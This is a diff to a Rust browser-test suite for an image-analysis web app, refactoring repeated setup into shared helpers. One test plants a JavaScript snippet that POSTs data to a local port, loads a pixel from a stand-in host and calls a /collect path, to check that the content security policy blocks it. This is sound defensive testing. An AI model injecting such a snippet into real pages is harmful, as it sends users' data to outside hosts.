@@ -572,10 +572,7 @@ fn copy_dir(from: &std::path::Path, to: &std::path::Path) -> Result<()> {
 /// an error the page names.
 #[test]
 fn optional_assets_absent_or_broken() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
+    built()?;
     let driver = Driver::start()?;
     let without = broken_dist("dist-without-reference", |d| {
         let _ = std::fs::remove_dir_all(d.join("reference"));
@@ -615,10 +612,7 @@ fn optional_assets_absent_or_broken() -> Result<()> {
 /// the model could not be loaded, stays usable, and refuses files with that reason.
 #[test]
 fn models_that_fail_to_load_are_explained() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
+    built()?;
     let Some(real) = real_cell() else {
         return Ok(());
     };
@@ -693,24 +687,47 @@ fn models_that_fail_to_load_are_explained() -> Result<()> {
     Ok(())
 }
 
+/// The tests drive the built app: without dist/ they fail, saying how to build it.
+fn built() -> Result<()> {
+    ensure!(
+        root().join("dist/index.html").exists(),
+        "build the app first: cargo xtask build"
+    );
+    Ok(())
+}
+
+/// The built app served fresh, in a new session on the CPU path, loaded and idle. Fields drop
+/// in order: the session, then the server, then the browser driver.
+struct Opened {
+    s: Session,
+    server: StaticServer,
+    _driver: Driver,
+}
+
+fn opened(query: &str) -> Result<Opened> {
+    built()?;
+    let driver = Driver::start()?;
+    let server = StaticServer::start(root().join("dist"))?;
+    let s = driver.session(false)?;
+    s.goto(&format!("{}/{query}", server.url))?;
+    open(&s)?;
+    Ok(Opened {
+        s,
+        server,
+        _driver: driver,
+    })
+}
+
 /// The hostile corpus (`wbc-hostile`: PDFs, WebP, HEIC, truncated and oversized files, 16-bit,
 /// CMYK, EXIF-rotated, transparent images…) chosen at once after a real cell: every image
 /// becomes a cell, every other file is listed as refused with its name and reason, and the
 /// cell analysed before stays. The same corpus goes through the CLI in crates/cli/tests.
 #[test]
 fn hostile_files_are_answered_one_by_one() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
     let Some(real) = real_cell() else {
         return Ok(());
     };
-    let driver = Driver::start()?;
-    let server = StaticServer::start(root().join("dist"))?;
-    let s = driver.session(false)?;
-    s.goto(&server.url)?;
-    open(&s)?;
+    let Opened { s, .. } = opened("")?;
     upload_and_wait(&s, &real)?;
     ensure!(cell_count(&s)? == 1, "the real cell was not analysed");
 
@@ -768,10 +785,7 @@ fn hostile_files_are_answered_one_by_one() -> Result<()> {
 /// policy in place the browser refuses the cross-origin request and logs the violation.
 #[test]
 fn a_planted_foreign_request_is_caught() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
+    built()?;
     let plant = "fetch('http://127.0.0.1:9/upload', {method: 'POST', body: 'cell', mode: 'no-cors'}).catch(() => {}); \
           new Image().src = 'http://example.invalid/pixel.png'; \
           fetch('/collect?cell=1').catch(() => {}); return null;";
@@ -811,10 +825,7 @@ fn a_planted_foreign_request_is_caught() -> Result<()> {
     );
 
     // The real page: the policy stops the cross-origin POST, and says so.
-    let server = StaticServer::start(root().join("dist"))?;
-    let s = driver.session(false)?;
-    s.goto(&server.url)?;
-    open(&s)?;
+    let Opened { s, .. } = opened("")?;
     s.js(plant)?;
     std::thread::sleep(Duration::from_secs(2));
     let console = s.console();
@@ -830,17 +841,9 @@ fn a_planted_foreign_request_is_caught() -> Result<()> {
 /// Screenshots at 1920×1080 and at a 1280×720 projector.
 #[test]
 fn presentation_mode_steps_through_cells_by_key() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
     let cells = real_cells(3);
     ensure!(cells.len() == 3, "three real cells are needed");
-    let driver = Driver::start()?;
-    let server = StaticServer::start(root().join("dist"))?;
-    let s = driver.session(false)?;
-    s.goto(&server.url)?;
-    open(&s)?;
+    let Opened { s, .. } = opened("")?;
     s.upload_many("file-input", &cells)?;
     s.wait_for("three cells", LOAD, |s| Ok(cell_count(s)? == 3))?;
     // Full screen takes the headless screen's size: set the screen (viewport) to the hall's.
@@ -922,11 +925,7 @@ fn works_offline_after_one_visit() -> Result<()> {
     let Some(real) = real_cell() else {
         return Ok(());
     };
-    let driver = Driver::start()?;
-    let server = StaticServer::start(root().join("dist"))?;
-    let s = driver.session(false)?;
-    s.goto(&format!("{}/?cpu", server.url))?;
-    open(&s)?;
+    let Opened { s, server, .. } = opened("?cpu")?;
     s.wait_for("offline-ready", LOAD, |s| {
         Ok(s.attr("offline-ready", "data-ready")?.as_deref() == Some("true"))
     })?;
@@ -958,15 +957,7 @@ fn works_offline_after_one_visit() -> Result<()> {
 /// kept across a reload and goes with "reset".
 #[test]
 fn quiz_round_and_score_kept_across_a_reload() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
-    let driver = Driver::start()?;
-    let server = StaticServer::start(root().join("dist"))?;
-    let s = driver.session(false)?;
-    s.goto(&server.url)?;
-    open(&s)?;
+    let Opened { s, server, .. } = opened("")?;
     s.click("view-quiz")?;
     s.wait_for("the quiz", Duration::from_secs(10), |s| {
         Ok(s.find("quiz-load-samples")?.is_some())
@@ -1046,10 +1037,7 @@ fn quiz_round_and_score_kept_across_a_reload() -> Result<()> {
 /// the table, the glossary, the quiz and presentation mode: no serious or critical violation.
 #[test]
 fn no_serious_accessibility_violations() -> Result<()> {
-    ensure!(
-        root().join("dist/index.html").exists(),
-        "build the app first: cargo xtask build"
-    );
+    built()?;
     let axe_path = root().join("target/npm/node_modules/axe-core/axe.min.js");
     let axe = std::fs::read_to_string(&axe_path).with_context(|| {
         format!(
